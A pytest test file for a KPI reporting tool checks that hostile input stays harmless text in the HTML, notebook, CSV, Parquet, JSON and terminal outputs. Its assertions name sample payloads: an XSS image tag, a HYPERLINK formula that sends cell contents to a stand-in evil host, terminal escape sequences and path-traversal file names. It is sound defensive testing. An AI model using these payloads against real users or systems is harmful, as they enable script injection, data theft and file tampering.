"""Hostile text goes through every channel into every output, and stays text."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import nbformat
import pandas as pd
import pytest

import attacks
from hostile.hostile_client import COLUMNS, FILES, notes
from kpibook.report.outside import outside_references
from kpibook.results import NUMBERS, file_name, inert, save, scorecard
from kpibook.unspoken import UNSPOKEN, replaced, visible

if TYPE_CHECKING:
    from hostile.hostile_client import Attacked

#: All that the report's own markup consists of.
TAGS = frozenset(
    re.findall(
        r"\w+",
        """html head meta title style body main header section article div span p a h1 h2 h3 h4 h5 h6 ul ol li dl dt dd
        br wbr hr table caption colgroup col thead tbody tfoot tr th td figure figcaption pre code strong em b i small
        sup sub abbr details summary svg g path line rect circle text tspan defs clippath use""",
    )
)


class Page(HTMLParser):
    """Texts of a page as a reader sees them, its tags and the names of its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name in ("href", "xlink:href")}
        if tag in ("p", "li", "td", "th", "figcaption", "text", "h1", "h2", "h3"):
            self.texts.append("")

    def handle_data(self, data: str) -> None:
        if self.texts:
            self.texts[-1] += data

    @property
    def text(self) -> str:
        return "\n".join(self.texts)


def plain(text: str) -> str:
    """White space as a browser shows it."""
    return re.sub(r"\s+", " ", text).strip()


@pytest.fixture(scope="module")
def page(attacked: Attacked) -> Page:
    return Page((attacked.report / "report.html").read_text(encoding="utf-8"))


def test_the_list_is_long_enough() -> None:
    assert len(set(attacks.EVERY)) == len(attacks.EVERY) == 110


def test_the_report_is_made_and_reproduces(attacked: Attacked) -> None:
    assert attacked.result.code == 0
    assert json.loads((attacked.report / "run.json").read_text(encoding="utf-8"))["state"] == "valid"


def test_the_page_consists_of_its_own_markup_only(attacked: Attacked, page: Page) -> None:
    assert page.tags <= TAGS
    assert [name for name in page.attributes if name.startswith("on")] == []
    assert {link[:1] for link in page.links} <= {"#"}
    assert outside_references((attacked.report / "report.html").read_text(encoding="utf-8")) == []


def test_every_note_and_title_is_read_as_it_was_written(page: Page) -> None:
    shown = {plain(text) for text in page.texts}
    assert [note for note in notes() if plain(note) not in shown] == []
    everything = plain(page.text)
    titles = [plain(text.partition(":")[0]).rstrip(".") for text in attacks.SPEAKABLE]
    assert [title for title in titles if title not in everything] == []


def test_segments_are_in_tables_and_charts_as_text(page: Page) -> None:
    """Each breakdown shows its segments; a chart shows what no text holds by a sign for it."""
    everything = plain(page.text)
    assert "<img src=x onerror=alert(1)>" in everything
    assert plain('=HYPERLINK("http://kb-evil.example/?"&A1,"more")') in everything


def test_the_page_forbids_what_it_does_not_need(attacked: Attacked) -> None:
    head = (attacked.report / "report.html").read_text(encoding="utf-8").partition("<title>")[0]
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:; font-src data:" in head


def test_the_notebook_holds_html_and_text_only_and_its_html_is_as_harmless(attacked: Attacked) -> None:
    notebook = nbformat.read(attacked.report / "report.ipynb", as_version=4)
    outputs = [output for cell in notebook.cells for output in cell.get("outputs", ())]
    kinds = {kind for output in outputs for kind in output.get("data", {})}
    assert kinds == {"text/html", "text/plain"}
    assert {output.output_type for output in outputs} == {"execute_result"}
    for output in outputs:
        shown = output.data["text/html"]
        found = Page(shown)
        assert found.tags <= TAGS
        assert [name for name in found.attributes if name.startswith("on")] == []
        assert outside_references(shown) == []
        assert '<div class="kb mathjax_ignore tex2jax_ignore">' in shown  # JupyterLab sets no formulas in it
    assert [cell.source for cell in notebook.cells if cell.cell_type == "markdown"] == []


def test_the_tables_hold_each_text_as_it_came(attacked: Attacked) -> None:
    card = pd.read_parquet(attacked.report / "scorecard.parquet")
    segments = set(card.loc[card["segment_by"].isin(COLUMNS), "segment"])
    assert [text for text in attacks.EVERY if text not in segments and text.strip()] == []
    assert "\x1b]0;kb-hit\x07" in card.loc[card["kpi"] == "loud", "reason"].iloc[0].encode().decode("unicode_escape")


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_the_csv_is_a_formula(attacked: Attacked, separator: str) -> None:
    """Whatever the list separator of the reader's country is."""
    text = (attacked.report / "scorecard.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    cells = [cell for row in rows for cell in row]
    number = re.compile(r"-?\d+(\.\d+)?(e[+-]\d+)?")
    loaded = [cell for cell in cells if re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]", cell)]
    assert [cell for cell in loaded if not number.fullmatch(cell)] == []
    assert len(rows) > 100


def test_numbers_stay_numbers_in_the_csv(attacked: Attacked) -> None:
    card = pd.read_parquet(attacked.report / "scorecard.parquet")
    written = pd.read_csv(attacked.report / "scorecard.csv", usecols=list(NUMBERS))
    assert all(pd.api.types.is_numeric_dtype(written[name]) for name in NUMBERS)
    for name in NUMBERS:
        pd.testing.assert_series_equal(written[name].astype(float), card[name].astype(float), check_dtype=False)


def test_json_stays_json_and_names_the_files_as_they_are(attacked: Attacked) -> None:
    quality = json.loads((attacked.report / "quality.json").read_text(encoding="utf-8"))
    record = json.loads((attacked.report / "run.json").read_text(encoding="utf-8"))
    assert sorted(quality["files"]) == sorted(FILES.values())
    assert sorted(record["inputs"]) == sorted(FILES.values())
    assert record["title"] == attacks.HTML[0]


def test_the_terminal_obeys_nothing(attacked: Attacked) -> None:
    assert UNSPOKEN.findall(attacked.result.out + attacked.result.err) == []
    assert "KPI failed: loud" in attacked.result.err
    assert "\\x07\\u202e" in attacked.result.err


def test_check_tells_every_file_and_obeys_nothing(attacked: Attacked) -> None:
    done = attacked.project.run("check", "params/attacked.yaml")
    assert done.code == 0
    assert UNSPOKEN.findall(done.out + done.err) == []


def test_nothing_was_executed_and_no_path_was_left(attacked: Attacked) -> None:
    base = attacked.project.path
    made = {path.relative_to(base).as_posix() for path in base.rglob("*") if path.is_file()}
    before = {"params/attacked.yaml", "plugins/attacks.json", "plugins/hostile.py"}
    before |= {f"data/{name}" for name in FILES.values()}
    reports = {name for name in made - before if "/__pycache__/" not in name}
    own = "reports/attacked/2024-04-01_2024-06-30/"
    cached = "reports/.cache/attacked/"
    assert {name for name in reports if not name.startswith((own, cached))} == {
        "reports/.staging/.lock",
        "reports/.staging/attacked.lock",
    }
    assert all(re.fullmatch(r"[\w./-]+", name) for name in reports)
    assert not Path("/tmp/kb-hit").exists()  # noqa: S108  where the attacks would leave a mark
    assert not list(base.rglob("*kb-hit"))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\t=1", "'\t'=1"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r'=1"),
        ("\nx", "'\nx"),
        (" =1", " '=1"),
        ("\uff1d1", "'\uff1d1"),
        ("x;=1;y", "x;'=1;y"),
        ("x\t=1", "x\t'=1"),
        ("x\n-1", "x\n'-1"),
        ("x|@1", "x|'@1"),
        ("a-b", "a-b"),
        ("Madrid, -5", "Madrid, -5"),
        ("'=1", "'=1"),
        ('{"low": -1}', '{"low": -1}'),
        ("", ""),
    ],
)
def test_what_would_start_a_formula_gets_an_apostrophe(text: str, written: str) -> None:
    assert inert(text) == written


def test_a_negative_number_is_no_formula_and_a_text_like_one_is(tmp_path: Path) -> None:
    row = {"kpi": "net_sales", "segment": "-5", "value": -12.5, "n": 3, "change": -0.25, "reason": "a\r=1"}
    save(tmp_path, scorecard([row]), {})
    filled = [cell for cell in (tmp_path / "scorecard.csv").read_bytes().decode().split("\r\n")[1].split(",") if cell]
    assert filled == ["net_sales", "'-5", "-12.5", "3", '"a\r\'=1"', "-0.25"]


@pytest.mark.parametrize(
    ("kpi", "name"),
    [
        ("net_sales", "net_sales.parquet"),
        ("net_sales.by_area", "net_sales.by_area.parquet"),
        ("../../x", "__.._x.parquet"),
        ("/etc/passwd", "_etc_passwd.parquet"),
        ("a\\b:c\x00", "a_b_c_.parquet"),
        ("x" * 300, "x" * 200 + ".parquet"),
    ],
)
def test_tables_have_names_that_lead_nowhere(kpi: str, name: str) -> None:
    assert file_name(kpi) == name


def test_characters_that_no_text_holds() -> None:
    assert visible("a\x1b[2J\x9b\u202e\u2066\r\tb\nc") == "a\\x1b[2J\\x9b\\u202e\\u2066\\x0d\tb\nc"
    assert replaced("a\x00\ud800b") == "a\ufffd\ufffdb"
